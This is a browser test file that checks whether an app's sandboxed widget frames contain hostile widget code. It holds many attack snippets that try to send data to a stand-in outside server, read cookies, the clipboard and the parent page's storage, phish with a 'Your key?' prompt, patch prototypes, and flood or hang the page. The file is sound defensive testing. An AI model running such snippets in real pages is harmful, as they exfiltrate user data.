import { readdirSync } from "node:fs";
import path from "node:path";
import { expect, test } from "./testing/browsers/browser-test.ts";
import { openWithSecret, startOtherSite } from "./testing/other-site.ts";

/** The app's module that opens frames. */
const ASSETS = path.resolve(import.meta.dirname, "../dist/app/assets");
const MODULE = `/assets/${readdirSync(ASSETS).find((file) => /^framed-widget-.*\.js$/.test(file)) ?? ""}`;

/** Attacks that run while the widget loads: each reports what it reached in `out`. `SERVER` is another site. */
const REACH: Readonly<Record<string, string>> = {
  fetch: `await fetch(SERVER).then(() => out.push("reached"), () => {});`,
  "fetch of the app": `await fetch("/config.json").then(() => out.push("reached"), () => {});`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", SERVER); x.onload = () => out.push("reached"); try { x.send(); } catch {} await wait(300);`,
  WebSocket: `try { const w = new WebSocket(SERVER.replace("http", "ws")); w.onopen = () => out.push("reached"); } catch {} await wait(300);`,
  EventSource: `try { new EventSource(SERVER); } catch {} await wait(300);`,
  beacon: `navigator.sendBeacon(SERVER, "x"); await wait(300);`,
  media: `for (const tag of ["img", "video", "audio"]) make(tag, { src: SERVER }); make("object", { data: SERVER }); make("embed", { src: SERVER }); await wait(300);`,
  links: `for (const rel of ["stylesheet", "icon", "preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "prerender"]) make("link", { rel, href: SERVER, as: "script" }); await wait(300);`,
  style: `make("style").textContent = "@import url(" + SERVER + "); body { background: url(" + SERVER + ") }"; document.body.style.background = "url(" + SERVER + ")"; const s = new CSSStyleSheet(); s.replaceSync("main { background: url(" + SERVER + ") }"); document.adoptedStyleSheets.push(s); await wait(300);`,
  font: `await new FontFace("x", "url(" + SERVER + ")").load().then(() => out.push("reached"), () => {});`,
  script: `const s = document.createElement("script"); s.src = SERVER; s.onload = () => out.push("reached"); document.head.append(s); await wait(300);`,
  "script of the app": `await import(new URL("/offline-worker.js", location.href).href).then(() => out.push("reached"), () => {});`,
  eval: `try { out.push(eval("1")); } catch {}`,
  worker: `try { new Worker(URL.createObjectURL(new Blob(["fetch('" + SERVER + "')"]))); } catch {} await wait(300);`,
  "service worker": `try { await navigator.serviceWorker.register("/offline-worker.js"); out.push("reached"); } catch {}`,
  form: `make("form", { action: SERVER }).submit(); await wait(300);`,
  popup: `const w = open(SERVER); if (w) out.push("reached"); make("a", { target: "_blank", href: SERVER }).click(); await wait(300);`,
  download: `make("a", { download: "x", href: SERVER }).click(); await wait(300);`,
  "a link's ping": `make("a", { ping: SERVER, href: "#x" }).click(); await wait(300);`,
  WebTransport: `try { await new WebTransport(SERVER.replace("http", "https")).ready; out.push("reached"); } catch {}`,
  "speculation rules": `try { make("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [SERVER] }] }) }); } catch {} await wait(300);`,
  "top navigation": `try { top.location.href = SERVER; } catch {} try { top.location.replace(SERVER); } catch {} await wait(300);`,
  "the page's document": `for (const one of [parent, top]) { try { out.push(one.document.title); } catch {} try { out.push(one.localStorage.canary); } catch {} } try { out.push(frameElement.id); } catch {}`,
  "other frames": `for (let i = 0; i < parent.length; i += 1) { try { if (parent[i] !== self) out.push(parent[i].location.href); } catch {} }`,
  storage: `for (const name of ["localStorage", "sessionStorage"]) { try { out.push(self[name].length); } catch {} } try { await caches.open("x"); out.push("caches"); } catch {} try { indexedDB.open("x").onsuccess = () => out.push("indexedDB"); await wait(300); } catch {}`,
  cookies: `try { out.push(...document.cookie.split(";").filter(Boolean)); } catch {}`,
  clipboard: `try { out.push(await navigator.clipboard.readText()); } catch {}`,
  camera: `try { await navigator.mediaDevices.getUserMedia({ video: true }); out.push("reached"); } catch {}`,
  dialogs: `try { if (prompt("Your key?") !== null) out.push("reached"); } catch {}`,
  "full screen": `try { await document.documentElement.requestFullscreen(); out.push("reached"); } catch {}`,
  WebRTC: `if (typeof RTCPeerConnection !== "undefined") out.push("reached"); const f = make("iframe"); try { out.push(typeof f.contentWindow.RTCPeerConnection); } catch {}`,
  "scripts in a frame of its own": `addEventListener("message", ({ data }) => out.push(data)); for (const srcdoc of ["<script>parent.postMessage(1, '*')</" + "script>", "<img src=x onerror=parent.postMessage(2,'*')>"]) make("iframe", { srcdoc }); await wait(300);`,
  "a frame of its own": `make("iframe", { src: SERVER }); document.body.append(document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe")); await wait(300);`,
  "a frame of markup": `document.body.insertAdjacentHTML("beforeend", "<iframe src=" + SERVER + "></iframe><link rel=preconnect href=" + SERVER + ">"); await wait(300);`,
  "a frame of a changed prototype": `String.prototype.toLowerCase = () => "div"; Array.prototype.includes = () => false; Object.defineProperty(Element.prototype, "localName", { get: () => "div" }); const f = document.createElement("iframe"); f.src = SERVER; document.body.append(f); await wait(300);`,
  "a frame of a class": `class F extends HTMLIFrameElement {} customElements.define("x-f", F, { extends: "iframe" }); const f = new F(); f.src = SERVER; document.body.append(f); await wait(300);`,
};

/** An attack that reached nothing. Chromium shows an empty document for what it has refused. */
const NOTHING = /out: \[\]\.$|it left its document\.$/;

/** Attacks that end the frame, and the reason in the message. */
const STOPPED: Readonly<Record<string, readonly [code: string, reason: RegExp]>> = {
  "leaves for another site": [`location.href = SERVER + "leak"; await wait(3000);`, NOTHING],
  "leaves by a refresh": [
    `const m = document.querySelector("meta[name=viewport]"); m.remove(); m.httpEquiv = "refresh"; m.content = "0;url=" + SERVER; document.head.append(m); await wait(3000);`,
    NOTHING,
  ],
  "leaves for a host whose name is what was entered": [
    `navigation.navigate(SERVER.replace("127.0.0.1", "entered.localhost")); await wait(3000);`,
    NOTHING,
  ],
  "leaves within the app": [`location.href = "/settings"; await wait(3000);`, NOTHING],
  "posts to the page": [`parent.postMessage({ type: "ready" }, "*"); await wait(3000);`, /past its own port/],
  "posts to the top": [`top.postMessage("x", "*"); await wait(3000);`, /past its own port/],
  "sends 10,000 messages": [
    `onPort((send) => { for (let i = 0; i < 10000; i += 1) send({ type: "pong" }); });`,
    /too many messages/,
  ],
  "sends 100 MB of text": [`onPort((send) => send({ type: "change", value: "x".repeat(1e8) }));`, /does not accept/],
  "sends 100 MB of bytes": [
    `onPort((send) => send({ type: "change", value: new Uint8Array(1e8) }));`,
    /does not accept/,
  ],
  "sends a cycle": [
    `onPort((send) => { const value = {}; value.self = value; send({ type: "change", value }); });`,
    /does not accept/,
  ],
  "sends a million values": [
    `onPort((send) => send({ type: "change", value: Array(1e6).fill(0) }));`,
    /does not accept/,
  ],
  "sends a type of its own": [`onPort((send) => send({ type: "fetch", url: SERVER }));`, /does not accept/],
  "sends more members": [`onPort((send) => send({ type: "pong", extra: 1 }));`, /does not accept/],
  throws: [`throw new Error("broken widget");`, /broken widget/],
};

const widgetCode = (body: string, server: string): string => `
const SERVER = ${JSON.stringify(server)};
const wait = (time) => new Promise((resolve) => setTimeout(resolve, time));
const post = MessagePort.prototype.postMessage;
// The frame's script has the port: its next message hands it over.
const onPort = (work) => {
  MessagePort.prototype.postMessage = function () { work((message) => post.call(this, message)); };
};
const make = (tag, attributes = {}) => {
  let element;
  try { element = Object.assign(document.createElement(tag), attributes); } catch { return document.createElement("p"); }
  document.body.append(element);
  return element;
};
export const init = () => {};
export const get = async () => { const out = []; ${body}; throw new Error("out: " + JSON.stringify(out)); };`;

interface Outcome {
  readonly name: string;
  readonly message: string;
}

interface Loaded {
  readonly outcomes: readonly Outcome[];
  /** Longest time in milliseconds between two turns of the page. */
  readonly pause: number;
  /** Greatest height of a frame in pixels. */
  readonly height: number;
}

/** Runs in the page: loads each widget, some at a time, while the page's turns are timed. */
async function load(module: string, widgets: readonly (readonly [string, string])[]): Promise<Loaded> {
  const { framedWidget } = (await import(module)) as {
    framedWidget(entry: object, code: string): Promise<{ readonly default: object }>;
  };
  const outcomes: Outcome[] = [];
  let [pause, height, turn] = [0, 0, performance.now()];
  const clock = setInterval(() => {
    pause = Math.max(pause, performance.now() - turn);
    turn = performance.now();
    const styles = [...document.querySelectorAll("iframe")].map((frame) => Number.parseFloat(frame.style.height));
    height = Math.max(height, ...styles.filter((one) => !Number.isNaN(one)));
  }, 10);
  const run = async ([name, code]: readonly [string, string]): Promise<void> => {
    const entry = { kind: "task", id: "hostile", name: "Hostile", files: {} };
    const message = await framedWidget(entry, code).then(
      ({ default: parts }) => `loaded ${Object.keys(parts).join()}`,
      (error: unknown) => String(error),
    );
    outcomes.push({ name, message });
  };
  for (let start = 0; start < widgets.length; start += 8) {
    // oxlint-disable-next-line no-await-in-loop -- Some at a time.
    await Promise.all(widgets.slice(start, start + 8).map(run));
  }
  clearInterval(clock);
  return { outcomes, pause: Math.max(pause, performance.now() - turn), height };
}

/** Runs in the page: what a widget could have changed. */
const traces = (): object => [
  { ...localStorage },
  document.cookie,
  location.href,
  document.title,
  document.querySelectorAll("iframe").length,
];

for (const engine of ["chromium", "firefox"] as const) {
  test.describe(engine, () => {
    // The frames' refused attempts are reported in the console.
    test.use({ engine, catalogue: "few", allowedErrors: [/./] });

    test("widgets of strangers reach nothing, and are stopped by name", async ({ visit, server }) => {
      test.setTimeout(180_000);
      const { address, requests, connections, stop } = await startOtherSite();
      const codeOf = ([name, body]: readonly [string, string]) => [name, widgetCode(body, address)] as const;
      const attempt = ([name, body]: readonly [string, string]) => codeOf([name, `try { ${body} } catch {}`]);
      try {
        await openWithSecret(visit, server.url);
        const before = await visit.evaluate(traces);
        const reached = await visit.evaluate(load, MODULE, Object.entries(REACH).map(attempt));
        expect(reached.outcomes).toHaveLength(Object.keys(REACH).length);
        expect(reached.outcomes.filter(({ message }) => !NOTHING.test(message))).toEqual([]);
        const ended = await visit.evaluate(
          load,
          MODULE,
          Object.entries(STOPPED).map(([name, [body]]) => codeOf([name, body])),
        );
        expect(ended.outcomes.filter(({ name, message }) => !STOPPED[name]?.[1].test(message))).toEqual([]);
        expect(
          ended.outcomes.filter(({ message }) => !message.includes("The widget of the task 'hostile' was stopped")),
        ).toEqual([]);
        const tall = await visit.evaluate(load, MODULE, [
          codeOf(["grows", `document.body.style.height = "100000px"; await wait(500);`]),
        ]);
        expect(tall.height).toBeLessThanOrEqual(2000);
        expect(await visit.evaluate(traces)).toEqual(before);
        expect([requests, connections()]).toEqual([[], 0]);
        const pause = Math.max(reached.pause, ended.pause);
        // Not expected: the machine may be busy.
        test.info().annotations.push({ type: "longest pause of the page", description: `${pause} ms` });
      } finally {
        await visit.evaluate(() => localStorage.removeItem("canary"));
        await stop();
      }
    });
  });
}

test.describe("chromium", () => {
  test.use({ engine: "chromium", catalogue: "few", allowedErrors: [/./] });

  // Firefox runs frame and page in one process, see docs/decisions/widget-frames.md.
  test("a widget that computes without an end is stopped, and the page goes on", async ({ visit, server }) => {
    await visit.goto(`${server.url}/libraries`);
    await visit.expectText("Asteroid", ["main"]);
    const { outcomes, pause } = await visit.evaluate(load, MODULE, [["loops", widgetCode("for (;;) {}", server.url)]]);
    expect(outcomes[0]?.message).toMatch(/task 'hostile' was stopped: it did not start within 10 seconds/);
    expect(pause).toBeLessThan(5000);
  });
});
